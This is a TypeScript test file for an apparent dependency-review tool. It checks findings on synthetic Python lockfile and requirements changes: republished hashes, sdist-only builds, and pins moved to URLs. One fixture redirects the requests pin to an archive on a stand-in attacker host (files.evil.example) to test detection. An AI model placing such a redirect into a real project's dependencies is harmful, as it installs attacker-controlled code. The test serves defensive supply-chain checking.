import { afterAll, describe, expect, it } from 'vitest';
import { makeRepo, reviewHead, type Tree } from './repo.js';

/**
 * Python lockfiles are reviewed like npm ones: uv.lock, poetry.lock and requirements files at both revisions,
 * compared package by package. PyPI never takes a file name twice, so a release file whose hash changed is a
 * republish (CPU001); a requirements pin that keeps none of its hashes accepts only other bytes.
 */
const cleanups: (() => void)[] = [];
afterAll(() => cleanups.forEach((c) => c()));

const hex = (n: number) => String(n).padStart(64, '0');
/** uv.lock locking requests at `version`: its sdist, and a wheel when `wheel` names the wheel's hash. */
const uvLock = (version: string, hash: number, wheel?: number) =>
  [
    'version = 1',
    'requires-python = ">=3.8"',
    '',
    '[[package]]',
    'name = "requests"',
    `version = "${version}"`,
    'source = { registry = "https://pypi.org/simple" }',
    `sdist = { url = "https://files.pythonhosted.org/packages/r/requests-${version}.tar.gz", hash = "sha256:${hex(hash)}", size = 1 }`,
    ...(wheel === undefined
      ? []
      : [
          'wheels = [',
          `    { url = "https://files.pythonhosted.org/packages/r/requests-${version}-py3-none-any.whl", hash = "sha256:${hex(wheel)}", size = 1 },`,
          ']',
        ]),
    '',
  ].join('\n');
/** poetry.lock (lock-version 2.0) locking requests at `version` with these files. */
const poetryLock = (version: string, files: readonly string[]) =>
  [
    '[[package]]',
    'name = "requests"',
    `version = "${version}"`,
    'description = "HTTP"',
    'optional = false',
    'python-versions = ">=3.8"',
    'files = [',
    ...files.map((f, i) => `    {file = "${f}", hash = "sha256:${hex(i + 1)}"},`),
    ']',
    '',
    '[metadata]',
    'lock-version = "2.0"',
    'python-versions = "^3.10"',
    `content-hash = "${hex(9)}"`,
    '',
  ].join('\n');
const pyproject = '[project]\nname = "app"\nversion = "1.0.0"\ndependencies = ["requests"]\n';
const pinned = (...hashes: number[]) =>
  [
    'requests==2.31.0 \\',
    ...hashes.map((h, i) => `    --hash=sha256:${hex(h)}${i < hashes.length - 1 ? ' \\' : ''}`),
  ].join('\n') + '\n';

interface Case {
  name: string;
  base: Tree;
  head: Tree;
  /** `rule@path:line` of the CPU findings. */
  want: string[];
  /** `kind name` of the listed changes. */
  changes?: string[];
}

const cases: Case[] = [
  {
    name: 'uv.lock: the same release, its sdist now with another hash → CPU001 at the package',
    base: { 'pyproject.toml': pyproject, 'uv.lock': uvLock('2.31.0', 1) },
    head: { 'uv.lock': uvLock('2.31.0', 2) },
    want: ['CPU001@uv.lock:4'],
  },
  {
    name: 'uv.lock: a patch update is listed as one',
    base: { 'pyproject.toml': pyproject, 'uv.lock': uvLock('2.31.0', 1) },
    head: { 'uv.lock': uvLock('2.31.1', 2) },
    want: [],
    changes: ['upgraded requests'],
  },
  {
    name: 'uv.lock: an update to a release with no wheel, only an sdist → CPU003 (its build backend now runs)',
    base: { 'pyproject.toml': pyproject, 'uv.lock': uvLock('2.31.0', 1, 2) },
    head: { 'uv.lock': uvLock('2.31.1', 3) },
    want: ['CPU003@uv.lock:4'],
  },
  {
    name: 'uv.lock: an update that keeps a wheel → nothing',
    base: { 'pyproject.toml': pyproject, 'uv.lock': uvLock('2.31.0', 1, 2) },
    head: { 'uv.lock': uvLock('2.31.1', 3, 4) },
    want: [],
  },
  {
    name: 'poetry.lock: an update to a release with only an sdist → CPU003',
    base: {
      'pyproject.toml': pyproject,
      'poetry.lock': poetryLock('2.31.0', ['requests-2.31.0-py3-none-any.whl', 'requests-2.31.0.tar.gz']),
    },
    head: { 'poetry.lock': poetryLock('2.31.1', ['requests-2.31.1.tar.gz']) },
    want: ['CPU003@poetry.lock:1'],
  },
  {
    // Poetry's Chooser takes a wheel or an sdist; an egg is neither, so nothing is built from source.
    name: 'poetry.lock: an update to a release with neither wheel nor sdist (an egg) → no CPU003',
    base: {
      'pyproject.toml': pyproject,
      'poetry.lock': poetryLock('2.31.0', ['requests-2.31.0-py3-none-any.whl', 'requests-2.31.0.tar.gz']),
    },
    head: { 'poetry.lock': poetryLock('2.31.1', ['requests-2.31.1-py3.12.egg']) },
    want: [],
  },
  {
    name: 'requirements: every --hash of a pin replaced → CPU001',
    base: { 'requirements.txt': pinned(1) },
    head: { 'requirements.txt': pinned(2) },
    want: ['CPU001@requirements.txt:1'],
  },
  {
    name: 'requirements: a hash added beside the old one (a wheel uploaded later) → no CPU001',
    base: { 'requirements.txt': pinned(1) },
    head: { 'requirements.txt': pinned(1, 2) },
    want: [],
  },
  {
    name: 'requirements: a pin moved to a URL → CPU002, not a downgrade',
    base: { 'requirements.txt': 'requests==2.31.0\n' },
    head: { 'requirements.txt': 'requests @ https://files.evil.example/requests-2.31.1.tar.gz\n' },
    want: ['CPU002@requirements.txt:1'],
  },
];

describe('review compares Python lockfiles', () => {
  it.each(cases)('$name', async ({ base, head, want, changes }) => {
    const repo = makeRepo(base, head);
    cleanups.push(repo.cleanup);
    const r = await reviewHead(repo.dir);
    const got = r.findings
      .filter((f) => f.ruleId.startsWith('CPU'))
      .map((f) => `${f.ruleId}@${f.location.path}:${f.location.line}`);
    expect(got.sort()).toEqual(want);
    if (changes) expect(r.lockfiles.flatMap((lf) => lf.changes.map((c) => `${c.kind} ${c.name}`))).toEqual(changes);
  });

  it("a release now built from its sdist is said once: CPU003, not also the head scan's CPP074", async () => {
    const repo = makeRepo(
      { 'pyproject.toml': pyproject, 'uv.lock': uvLock('2.31.0', 1, 2) },
      { 'uv.lock': uvLock('2.31.1', 3) },
    );
    cleanups.push(repo.cleanup);
    const r = await reviewHead(repo.dir);
    expect(r.findings.filter((f) => /^CP(U003|P074)$/.test(f.ruleId)).map((f) => f.ruleId)).toEqual(['CPU003']);
  });
});
